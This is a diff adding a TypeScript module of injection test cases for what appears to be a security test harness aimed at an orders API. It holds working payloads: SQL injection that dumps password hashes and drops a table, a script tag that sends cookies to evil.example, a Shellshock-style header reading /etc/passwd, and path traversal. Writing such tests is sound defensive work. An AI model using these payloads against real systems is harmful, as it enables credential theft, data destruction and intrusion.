@@ -1,0 +1,66 @@
+import { randomUUID } from 'node:crypto'
+import { send } from '../../targets/send.ts'
+import { type Attack, attack, type Scene } from '../attack.ts'
+import { draft } from '../world.ts'
+
+type Found = { items?: unknown[] }
+
+const search = ({ baseUrl, world, address }: Scene, q: string) =>
+  send(baseUrl, `/api/orders/search?q=${encodeURIComponent(q)}`, { token: world.token('owner'), from: address() })
+
+const create = ({ baseUrl, world, address }: Scene, json: object, headers = {}) =>
+  send(baseUrl, '/api/orders', { method: 'POST', token: world.token('owner'), from: address(), json, headers })
+
+/** Text that is kept and given back as text harms nobody; what runs, breaks a query or reads a file does. */
+export const injections: Attack[] = [
+  attack(
+    'SQL in a search',
+    scene => search(scene, "lamp' UNION SELECT email, password_hash FROM users --"),
+    ({ status, text }) => status === 500 || (status === 200 && (JSON.parse(text) as Found).items?.length !== 0),
+  ),
+  attack(
+    'SQL in an id of the path',
+    ({ baseUrl, world, address }) =>
+      send(baseUrl, `/api/orders/${randomUUID()}'%20OR%20'1'='1`, { token: world.token('owner'), from: address() }),
+    ({ status }) => status === 200 || status === 500,
+  ),
+  attack(
+    'SQL in a body',
+    scene => create(scene, { ...draft, customerName: "x'); DROP TABLE order_lines; --" }),
+    ({ status }) => status === 500,
+  ),
+  attack(
+    'SQL in a header',
+    scene => create(scene, draft, { 'idempotency-key': "x' OR pg_sleep(5) IS NULL OR '1'='1" }),
+    ({ status }) => status === 500,
+  ),
+  attack(
+    'script in an order’s note',
+    scene => create(scene, { ...draft, note: '<script>fetch("https://evil.example/" + document.cookie)</script>' }),
+    ({ headers }) => !/json/.test(headers['content-type'] ?? '') || headers['x-content-type-options'] !== 'nosniff',
+  ),
+  attack(
+    'shell command in a header',
+    ({ baseUrl, world, address }) =>
+      send(baseUrl, '/api/orders', {
+        token: world.token('owner'),
+        from: address(),
+        headers: { 'user-agent': '() { :; }; /bin/cat /etc/passwd' },
+      }),
+    ({ text }) => text.includes('root:'),
+  ),
+  attack(
+    'path of a system file in a search',
+    scene => search(scene, '../../../../../etc/passwd'),
+    ({ status, text }) => status === 500 || text.includes('root:'),
+  ),
+  attack('dot segments in the path', ({ baseUrl, world, address }) =>
+    send(baseUrl, '/api/orders/..%2f..%2f..%2fetc%2fpasswd', { token: world.token('owner'), from: address() }),
+  ),
+  attack(
+    'NUL in a search',
+    ({ baseUrl, world, address }) =>
+      send(baseUrl, '/api/orders/search?q=lamp%00', { token: world.token('owner'), from: address() }),
+    ({ status }) => status === 200 || status === 500,
+  ),
+]
